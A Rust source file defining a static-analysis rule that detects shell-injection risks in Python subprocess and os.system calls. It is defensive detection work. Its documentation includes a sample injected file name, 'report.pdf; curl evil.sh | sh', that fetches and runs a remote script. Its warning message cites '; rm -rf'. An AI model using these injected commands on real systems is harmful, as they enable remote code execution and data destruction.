//! PF504 shell-injection: a shell command built from values.

use super::RuleMeta;
use crate::analysis::semantic::{string_literal_value, CallArgs};
use crate::analysis::{Context, Finding, Severity};

pub static META: RuleMeta = RuleMeta {
    code: "PF504",
    name: "shell-injection",
    category: "security",
    severity: Severity::Error,
    summary: "A shell runs a command built from values",
    fixable: false,
    twins: &["S602", "S605", "B602", "B605"],
    doc: r#"## What it does
Finds `subprocess.run/call/check_call/check_output/Popen(..., shell=True)` whose command is not
a plain string literal, and `os.system(...)`/`os.popen(...)` with a non-literal command.

## Why is this bad?
The shell interprets `;`, `|`, `$(...)` and backticks in the command. If any part of it comes from
a request, a file name or a database row, `report.pdf; curl evil.sh | sh` runs on the server
(command injection, CWE-78).

## Example
```python
subprocess.run(f"convert {upload} out.png", shell=True, check=True)
```

## Use instead
```python
subprocess.run(["convert", upload, "out.png"], check=True)
```
When a shell is unavoidable, quote every value with `shlex.quote`.

## Fix
None: splitting a command into arguments needs a person.

## Related
ruff S602/S605, bandit B602/B605."#,
};

const SUBPROCESS: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
];

/// Checks one file.
pub fn check(ctx: &Context, meta: &'static RuleMeta, out: &mut Vec<Finding>) {
    for resolved in ctx.resolved_calls() {
        let (call, qualified) = (resolved.call, &resolved.qualified);
        let args = CallArgs::of(call, ctx.source);
        let shell = match qualified.as_str() {
            "os.system" | "os.popen" | "subprocess.getoutput" | "subprocess.getstatusoutput" => {
                true
            }
            q if SUBPROCESS.contains(&q) => {
                args.keyword("shell").is_some_and(|v| v.kind() == "true")
            }
            _ => false,
        };
        if !shell {
            continue;
        }
        let Some(command) = args
            .positional
            .first()
            .copied()
            .or_else(|| args.keyword("args"))
            .or_else(|| args.keyword("cmd"))
            .or_else(|| args.keyword("command"))
        else {
            continue;
        };
        // A literal command (or a list of literals) has nothing to inject.
        let literal = string_literal_value(command, ctx.source).is_some()
            || (matches!(command.kind(), "list" | "tuple") && {
                let mut cursor = command.walk();
                let all = command
                    .named_children(&mut cursor)
                    .all(|c| string_literal_value(c, ctx.source).is_some());
                all
            });
        if literal {
            continue;
        }
        out.push(Finding::new(
            meta,
            command.byte_range(),
            format!(
                "`{qualified}` runs this through a shell: any value in it can add commands (`; rm -rf`). \
                 Pass a list of arguments without `shell=True`, or `shlex.quote` every value"
            ),
            None,
        ));
    }
}
